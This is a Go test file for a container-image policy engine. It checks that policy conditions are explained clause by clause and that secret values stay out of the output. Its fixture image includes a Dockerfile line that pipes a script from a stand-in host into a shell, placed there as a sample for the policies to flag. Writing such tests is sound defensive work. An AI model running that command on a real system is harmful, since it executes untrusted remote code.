package policy

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/landwaiter/landwaiter/internal/fault"
)

// breakable is an image that gives most built-in policies something to say.
func breakable() Input {
	in := cleanInput()
	for _, change := range []func(*Input){
		withComponent("curl", "deb"), withEnvironment("DB_PASSWORD=hunter2-and-more"), withLine("RUN", "curl http://x.example | sh"),
		withVulnerability(Vulnerability{ID: "X-1", CVE: "CVE-2021-44228", Severity: "critical", FixedVersion: "1.2", Aliases: []string{"A-1"}}),
	} {
		change(&in)
	}
	return in
}

func explain1(t *testing.T, in Input, change func(*Policy)) *Explanation {
	t.Helper()
	e, err := compile(t, change).Explain(t.Context(), "p", "", in)
	if err != nil {
		t.Fatal(err)
	}
	return e
}

// lines writes a case's clauses as a person reads them.
func (c Case) lines() string {
	var b strings.Builder
	for _, k := range c.Clauses {
		said := map[bool]string{true: "yes", false: "no"}[k.Holds]
		if k.Error != "" {
			said = "error: " + k.Error
		}
		fmt.Fprintf(&b, "%s%s: %s", strings.Repeat("  ", k.Depth), k.Text, said)
		for _, p := range k.Values {
			fmt.Fprintf(&b, "; %s = %s", p.Text, p.Value)
		}
		b.WriteString("\n")
	}
	return b.String()
}

func TestExplain(t *testing.T) {
	t.Run("every_part_has_its_value", func(t *testing.T) {
		in := breakable()
		in.Image.Created = in.Now.AddDate(0, 0, -100)
		for text, want := range map[string]string{
			`image.tag == "1.2" && (image.user == "root" || !scan.scanned) && now - image.created > days(90)`: `all of: no
  image.tag == "1.2": yes; image.tag = "1.2"
  any of: no
    image.user == "root": no; image.user = "1000"
    !scan.scanned: no
  now - image.created > days(90): yes; now - image.created = 100.0 days; now = 2026-11-23T12:00:00Z; image.created = 2026-08-15T12:00:00Z
`,
			`!(image.hasCreated && image.tag.startsWith("2"))`: `not: yes
  all of: no
    image.hasCreated: yes
    image.tag.startsWith("2"): no; image.tag = "1.2"
`,
			`components.exists(c, c.name.startsWith("cu"))`: `components.exists(c, c.name.startsWith("cu")): yes; components.filter(c, c.name.startsWith("cu")) = [curl 1.0]
`,
			`!components.all(c, c.name != "curl")`: `!components.all(c, c.name != "curl"): yes; components.filter(c, !(c.name != "curl")) = [curl 1.0]
`,
			`components.filter(c, c.type == "deb").size() > 1 && "x" in image.labels`: `all of: no
  components.filter(c, c.type == "deb").size() > 1: yes; components.filter(c, c.type == "deb").size() = 3; components.filter(c, c.type == "deb") = [base-files 13.8, curl 1.0, libx 1.0]
  "x" in image.labels: no
`,
			`image.size / 0 > 1 || image.tag == "2"`: `any of: no
  image.size / 0 > 1: error: division by zero; image.size = 1048576
  image.tag == "2": no; image.tag = "1.2"
`,
		} {
			e := explain1(t, in, condition("", text))
			a := e.Asked[0]
			cases := append(append(a.Holds, a.Nearest...), a.Fails...)
			if len(cases) != 1 || cases[0].lines() != want {
				t.Errorf("%s\ngot  %s\nwant %s", text, cases[0].lines(), want)
			}
		}
	})

	t.Run("items_that_miss_least_come_first", func(t *testing.T) {
		in := cleanInput()
		in.Components = nil
		for i := range 500 {
			in.Components = append(in.Components, Component{Name: fmt.Sprint("lib", i), Version: "1", Type: "deb"})
		}
		in.Components[400].Type, in.Components[300].Version = "rpm", "2"
		e := explain1(t, in, condition("components", `component.type == "rpm" && component.version == "2" && component.name != ""`))
		a := e.Asked[0]
		if e.Outcome != NotBroken || a.Items != 500 || a.Looked != 500 || a.Held != 0 || len(a.Nearest) != maxNearest {
			t.Fatalf("%+v", a)
		}
		if a.Nearest[0].About.Component != "lib300 2" || a.Nearest[1].About.Component != "lib400 1" {
			t.Errorf("%+v", a.Nearest)
		}
		var counts []int
		for _, c := range a.Clauses {
			counts = append(counts, c.Held)
		}
		if fmt.Sprint(counts) != "[0 1 1 500]" {
			t.Error(counts)
		}
	})

	t.Run("what_is_missing_is_said", func(t *testing.T) {
		in := breakable()
		in.Scan = Scan{}
		e := explain1(t, in, condition("components", "true"))
		if e.Outcome != Unanswered || e.Asked[0].Missing != "the image was not scanned" {
			t.Errorf("%+v", e)
		}
	})

	t.Run("items_that_cannot_be_judged_are_shown", func(t *testing.T) {
		in := breakable()
		in.Vulnerabilities = in.Vulnerabilities[1:]
		e := explain1(t, in, condition("vulnerabilities", `vulnerability.severity == "critical" && vulnerability.epss > 0.5`))
		if a := e.Asked[0]; e.Outcome != Unanswered || a.Failed != 1 || !strings.Contains(a.Fails[0].lines(), "error: there is no EPSS score of the vulnerability") {
			t.Errorf("%+v", e)
		}
	})

	t.Run("scope_and_exclusions_count", func(t *testing.T) {
		elsewhere := explain1(t, breakable(), func(p *Policy) { p.Scope = []Scope{{Images: []string{"quay.io/**"}}} })
		if elsewhere.Outcome != NotAsked || len(elsewhere.Asked) != 0 {
			t.Errorf("%+v", elsewhere)
		}
		excluded := explain1(t, breakable(), func(p *Policy) {
			p.Exclusions = []Exclusion{{Name: "e", Scope: Scope{Images: []string{"registry.example/**"}}}}
		})
		if excluded.Outcome != Hidden || excluded.Asked[0].Held != 1 || excluded.Result.Excluded[0].Exclusion != "e" {
			t.Errorf("%+v", excluded)
		}
	})

	t.Run("a_disabled_policy_is_explained_and_a_wrong_stage_refused", func(t *testing.T) {
		if e := explain1(t, breakable(), func(p *Policy) { p.Disabled = true }); e.Outcome != Broken {
			t.Errorf("%+v", e)
		}
		set := compile(t, func(*Policy) {})
		if _, err := set.Explain(t.Context(), "q", "", breakable()); fault.CodeOf(err) != fault.NotFound {
			t.Error(err)
		}
		if _, err := set.Explain(t.Context(), "p", Deploy, breakable()); fault.CodeOf(err) != fault.Invalid {
			t.Error(err)
		}
	})

	t.Run("costly_conditions_are_not_looked_at_to_the_end", func(t *testing.T) {
		in := bigInput(2000, 10)
		e := explain1(t, in, condition("components", `components.exists(c, c.name + component.name == "x")`))
		if a := e.Asked[0]; e.Outcome != Unanswered || a.Looked == 0 || a.Looked >= a.Items {
			t.Errorf("%s, looked at %d of %d", e.Outcome, a.Looked, a.Items)
		}
	})

	t.Run("every_item_of_a_large_image_is_looked_at", func(t *testing.T) {
		in := bigInput(2000, 5000)
		e := explain1(t, in, condition("vulnerabilities", `vulnerability.severity == "critical" && vulnerability.component.name != "x"`))
		if a := e.Asked[0]; a.Looked != len(in.Vulnerabilities) {
			t.Errorf("looked at %d of %d", a.Looked, a.Items)
		}
	})

	t.Run("stops_when_nobody_waits", func(t *testing.T) {
		ctx, cancel := context.WithCancel(t.Context())
		cancel()
		_, err := compile(t, condition("components", "true")).Explain(ctx, "p", "", breakable())
		if !errors.Is(err, context.Canceled) {
			t.Error(err)
		}
	})
}

func TestExplain_agrees_with_the_evaluation(t *testing.T) {
	set, err := Compile(Builtin())
	if err != nil {
		t.Fatal(err)
	}
	in := breakable()
	for _, p := range set.Policies() {
		e, err := set.Explain(t.Context(), p.ID, "", in)
		if err != nil {
			t.Error(err)
			continue
		}
		messages := 0
		for _, v := range e.Result.Violations {
			messages += len(v.Messages)
		}
		held := 0
		for _, a := range e.Asked {
			held += a.Held
		}
		if messages != held || (held > 0) != (e.Outcome == Broken) {
			t.Errorf("%s: %s with %d messages, and the condition holds for %d", p.ID, e.Outcome, messages, held)
		}
		if written, err := json.Marshal(e); err != nil || strings.Contains(string(written), "hunter2") {
			t.Errorf("%s: %v, or it shows a secret: %s", p.ID, err, written)
		}
	}
}

func TestExplain_hides_secrets(t *testing.T) {
	in := breakable()
	in.Layers[0].Arguments = []string{"TOKEN=hunter2"}
	for forEach, conditions := range map[string][]string{
		"settings": {`setting.value != ""`, `setting.value.lowerAscii() + "x" != ""`, `(setting.name + setting.value).size() > 0`},
		"layers":   {`layer.arguments.exists(a, a.contains("hunter2"))`, `layer.arguments.join(",") != ""`},
		"": {
			`image.environment.exists(e, e.contains("hunter2"))`, `image.environment.filter(e, e != "").size() > 0`, `image.environment[0] != ""`,
			`settings.map(s, s.value).size() > 0`, `settings.exists(s, s.value.contains("hunter2"))`,
		},
	} {
		for _, c := range conditions {
			e := explain1(t, in, condition(forEach, c))
			written, err := json.Marshal(e.Asked)
			if err != nil {
				t.Fatal(err)
			}
			if shown := strings.ReplaceAll(string(written), `contains(\"hunter2\")`, ""); e.Outcome != Broken || strings.Contains(shown, "hunter2") {
				t.Errorf("%s: %s %s", c, e.Outcome, written)
			}
		}
	}
}

func TestExplainWorkload(t *testing.T) {
	set := compile(t, deployed(condition("", `image.tag == "latest" && workload.namespace != ""`)))
	e, err := set.ExplainWorkload(t.Context(), "p", shop())
	if err != nil {
		t.Fatal(err)
	}
	if len(e.Asked) != 2 || e.Asked[0].Container != "setup" || e.Asked[0].Held != 0 || e.Asked[1].Container != "web" || e.Asked[1].Held != 1 {
		t.Errorf("%+v", e.Asked)
	}
	once, err := compile(t, deployed(condition("", `workload.containers.exists(c, c.name == "web")`))).ExplainWorkload(t.Context(), "p", shop())
	if err != nil || len(once.Asked) != 1 || once.Asked[0].Container != "" || once.Outcome != Broken {
		t.Errorf("%v %+v", err, once)
	}
}
